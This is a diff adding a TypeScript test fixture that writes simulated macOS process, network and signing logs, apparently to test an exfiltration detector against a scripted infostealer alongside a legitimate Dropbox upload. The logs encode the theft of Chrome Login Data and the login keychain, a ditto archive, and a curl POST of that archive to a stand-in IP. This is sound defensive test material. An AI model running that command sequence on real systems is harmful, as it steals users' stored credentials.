@@ -1,0 +1,166 @@
+/**
+ * A scripted macOS host for the fake darwin tools (test/fake-tools/README.md): an infostealer and a
+ * Dropbox upload, side by side.
+ *
+ * - Stealer: an unsigned app from ~/Downloads reads Chrome's Login Data and the login keychain, runs
+ *   `ditto -c -k` into /tmp (the archive lands in /private/tmp), then runs Apple's curl to POST 15 MiB
+ *   over 443 to a raw IP. ditto has exited by the time ps samples; curl is still uploading.
+ * - Dropbox: Dropbox.app (Developer ID, team G7HH3F8CAK) reads a document and uploads 15 MiB over 443.
+ *
+ * Times are relative to `nowMs` (events older than events.retention would be pruned). Returns the
+ * scenario directory for OUTFLOW_FAKE_SCENARIO.
+ */
+import { mkdirSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+// Plain-JS builders shared with the fake eslogger: one definition of a realistic line.
+import { body, esLine } from '../../extension/collectors/eslogger/testing/es-lines.mjs';
+
+export const STEALER = {
+  pid: 8101,
+  path: '/Users/dana/Downloads/InvoiceViewer.app/Contents/MacOS/InvoiceViewer',
+  cdhash: '5EA1E55C0FFEE0DDBA11AD0BE5EED5CAFEF00D42',
+};
+export const DITTO = { pid: 8103, path: '/usr/bin/ditto' };
+export const CURL = { pid: 8104, path: '/usr/bin/curl' };
+export const DROPBOX = { pid: 5100, path: '/Applications/Dropbox.app/Contents/MacOS/Dropbox' };
+export const EXFIL = { remote: '203.0.113.77', port: 443, bytesOut: 15 * 1024 * 1024, bytesIn: 4_096 };
+export const DROPBOX_UPLOAD = { remote: '162.125.1.20', port: 443, bytesOut: 15 * 1024 * 1024, bytesIn: 9_000 };
+export const LOGIN_DATA = '/Users/dana/Library/Application Support/Google/Chrome/Default/Login Data';
+export const KEYCHAIN = '/Users/dana/Library/Keychains/login.keychain-db';
+
+const DAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
+const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
+/** `ps -o lstart=` under LC_ALL=C TZ=UTC: `Www Mmm dd HH:MM:SS YYYY`, day space-padded. */
+export function lstart(ms: number): string {
+  const d = new Date(ms);
+  const pad = (n: number) => String(n).padStart(2, '0');
+  return `${DAYS[d.getUTCDay()]} ${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} ${d.getUTCFullYear()}`;
+}
+
+const CURL_DISPLAY = [
+  'Executable=/usr/bin/curl',
+  'Identifier=com.apple.curl',
+  'Format=Mach-O universal (x86_64 arm64e)',
+  'CodeDirectory v=20400 size=2312 flags=0x0(none) hashes=61+7 location=embedded',
+  'Platform identifier=15',
+  'Hash type=sha256 size=32',
+  'CDHash=9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d',
+  'Signature size=4442',
+  'Authority=Software Signing',
+  'Authority=Apple Code Signing Certification Authority',
+  'Authority=Apple Root CA',
+  'Info.plist=not bound',
+  'TeamIdentifier=not set',
+  'Sealed Resources=none',
+  'Internal requirements count=1 size=64',
+  '',
+].join('\n');
+
+const DROPBOX_DISPLAY = [
+  `Executable=${DROPBOX.path}`,
+  'Identifier=com.getdropbox.dropbox',
+  'Format=app bundle with Mach-O universal (x86_64 arm64)',
+  'CodeDirectory v=20500 size=1780 flags=0x10000(runtime) hashes=45+7 location=embedded',
+  'Hash type=sha256 size=32',
+  'CDHash=0b1c2d3e4f5061728394a5b6c7d8e9f00b1c2d3e',
+  'Signature size=9012',
+  'Authority=Developer ID Application: Dropbox, Inc. (G7HH3F8CAK)',
+  'Authority=Developer ID Certification Authority',
+  'Authority=Apple Root CA',
+  'Timestamp=Mar 3, 2026 at 09:00:00',
+  'Info.plist entries=40',
+  'TeamIdentifier=G7HH3F8CAK',
+  'Runtime Version=14.0.0',
+  'Sealed Resources version=2 rules=13 files=900',
+  'Internal requirements count=1 size=220',
+  '',
+].join('\n');
+
+function nettopSample(): string {
+  const flow = (local: number, f: { remote: string; port: number; bytesIn: number; bytesOut: number }) =>
+    `{time},tcp4 10.20.30.41:${local}<->${f.remote}:${f.port},en0,Established,${f.bytesIn},${f.bytesOut},0,0,0,24.10 ms,131072,262144,BE,-,cubic,-,-,-,-,so,`;
+  const proc = (name: string, pid: number, f: { bytesIn: number; bytesOut: number }) => `{time},${name}.${pid},,,${f.bytesIn},${f.bytesOut},0,0,0,,,,,,,,,,,,`;
+  return [
+    'time,,interface,state,bytes_in,bytes_out,rx_dupe,rx_ooo,re-tx,rtt_avg,rcvsize,tx_win,tc_class,tc_mgt,cc_algo,P,C,R,W,arch,',
+    proc('curl', CURL.pid, EXFIL),
+    flow(50999, EXFIL),
+    proc('Dropbox', DROPBOX.pid, DROPBOX_UPLOAD),
+    flow(51200, DROPBOX_UPLOAD),
+    '',
+  ].join('\n');
+}
+
+export interface StealerScenario {
+  dir: string;
+  /** Unix seconds of each scripted step. */
+  times: { stealerStart: number; loginData: number; keychain: number; ditto: number; curlStart: number; dropboxRead: number };
+}
+
+export function writeStealerScenario(dir: string, nowMs = Date.now()): StealerScenario {
+  const s = Math.floor(nowMs / 1000) * 1000; // whole seconds: ps and eslogger start times agree exactly
+  const at = (secondsAgo: number) => s - secondsAgo * 1000;
+  const stealer = { pid: STEALER.pid, ppid: 1, path: STEALER.path, platform: false, signingId: null, teamId: null, cdhash: STEALER.cdhash, startMs: at(120), tty: null };
+  const stealerPreExec = { ...stealer, path: '/usr/libexec/xpcproxy', platform: true, signingId: 'com.apple.xpc.proxy' };
+  const ditto = { pid: DITTO.pid, ppid: STEALER.pid, path: DITTO.path, platform: true, signingId: 'com.apple.ditto', cdhash: 'DEADBEEF00112233445566778899AABBCCDDEEFF', startMs: at(40) };
+  const curl = { pid: CURL.pid, ppid: STEALER.pid, path: CURL.path, platform: true, signingId: 'com.apple.curl', cdhash: '9E8D7C6B5A4F3E2D1C0B9A8F7E6D5C4B3A2F1E0D', startMs: at(20) };
+  const dropbox = { pid: DROPBOX.pid, ppid: 1, path: DROPBOX.path, platform: false, signingId: 'com.getdropbox.dropbox', teamId: 'G7HH3F8CAK', cdhash: '0B1C2D3E4F5061728394A5B6C7D8E9F00B1C2D3E', startMs: at(3600) };
+  let g = 500_000;
+  type Proc = Parameters<typeof esLine>[0]['process'];
+  const line = (kind: string, ms: number, process: Proc, b: object) => esLine({ kind, timeMs: ms, gseq: g++, process, body: b, version: 10 });
+  const archiveArgs = ['ditto', '-c', '-k', '--keepParent', '/Users/dana/Library/Application Support/Google/Chrome/Default', '/tmp/out.zip'];
+  const eslogger = [
+    line('exec', at(120), stealerPreExec, body.exec(stealer, [STEALER.path], '/', 10)),
+    line('open', at(45), stealer, body.open(LOGIN_DATA)),
+    line('open', at(44), stealer, body.open(KEYCHAIN)),
+    line('fork', at(40), stealer, body.fork({ ...ditto, path: STEALER.path, platform: false, signingId: null, teamId: null, cdhash: STEALER.cdhash }, 10)),
+    line('exec', at(40) + 50, { ...ditto, path: STEALER.path, platform: false, signingId: null, teamId: null, cdhash: STEALER.cdhash }, body.exec(ditto, archiveArgs, '/Users/dana', 10)),
+    line('create', at(39), ditto, body.createExisting('/private/tmp/out.zip')),
+    line('write', at(39) + 10, ditto, body.write('/private/tmp/out.zip')),
+    line('close', at(38), ditto, body.close('/private/tmp/out.zip', true)),
+    line('exit', at(37), ditto, body.exit(0)),
+    line('open', at(30), dropbox, body.open('/Users/dana/Documents/Q3 report.pdf')),
+    line('fork', at(20), stealer, body.fork({ ...curl, path: STEALER.path, platform: false, signingId: null, teamId: null, cdhash: STEALER.cdhash }, 10)),
+    line(
+      'exec',
+      at(20) + 50,
+      { ...curl, path: STEALER.path, platform: false, signingId: null, teamId: null, cdhash: STEALER.cdhash },
+      body.exec(curl, ['curl', '-s', '-X', 'POST', '-F', 'f=@/tmp/out.zip', `https://${EXFIL.remote}/upload`], '/Users/dana', 10),
+    ),
+  ];
+
+  mkdirSync(path.join(dir, 'nettop'), { recursive: true });
+  writeFileSync(path.join(dir, 'nettop', '001.txt'), nettopSample());
+  writeFileSync(
+    path.join(dir, 'ps.txt'),
+    [
+      `    1     0     0 ${lstart(at(86_400))} /sbin/launchd`,
+      ` ${DROPBOX.pid}     1   501 ${lstart(dropbox.startMs)} ${DROPBOX.path}`,
+      ` ${STEALER.pid}     1   501 ${lstart(stealer.startMs)} ${STEALER.path}`,
+      ` ${CURL.pid}  ${STEALER.pid}   501 ${lstart(curl.startMs)} ${CURL.path}`,
+      '',
+    ].join('\n'),
+  );
+  writeFileSync(
+    path.join(dir, 'signing.json'),
+    JSON.stringify(
+      {
+        // No `display`: the fake answers "code object is not signed at all", as codesign does.
+        [STEALER.path]: {},
+        '/Users/dana/Downloads/InvoiceViewer.app': { spctl: { exit: 3, stderr: '/Users/dana/Downloads/InvoiceViewer.app: rejected\nsource=no usable signature\n' } },
+        [CURL.path]: { display: { stderr: CURL_DISPLAY } },
+        [DITTO.path]: { display: { stderr: CURL_DISPLAY.replaceAll('/usr/bin/curl', DITTO.path).replace('com.apple.curl', 'com.apple.ditto') } },
+        [DROPBOX.path]: { display: { stderr: DROPBOX_DISPLAY } },
+        '/Applications/Dropbox.app': { spctl: { exit: 0, stderr: '/Applications/Dropbox.app: accepted\nsource=Notarized Developer ID\norigin=Developer ID Application: Dropbox, Inc. (G7HH3F8CAK)\n' } },
+        '/sbin/launchd': { display: { stderr: CURL_DISPLAY.replaceAll('/usr/bin/curl', '/sbin/launchd').replace('com.apple.curl', 'com.apple.xpc.launchd') } },
+      },
+      null,
+      1,
+    ),
+  );
+  writeFileSync(path.join(dir, 'eslogger.jsonl'), `${eslogger.join('\n')}\n`);
+  const sec = (ms: number) => Math.floor(ms / 1000);
+  return {
+    dir,
+    times: { stealerStart: sec(stealer.startMs), loginData: sec(at(45)), keychain: sec(at(44)), ditto: sec(at(40)), curlStart: sec(curl.startMs), dropboxRead: sec(at(30)) },
+  };
+}
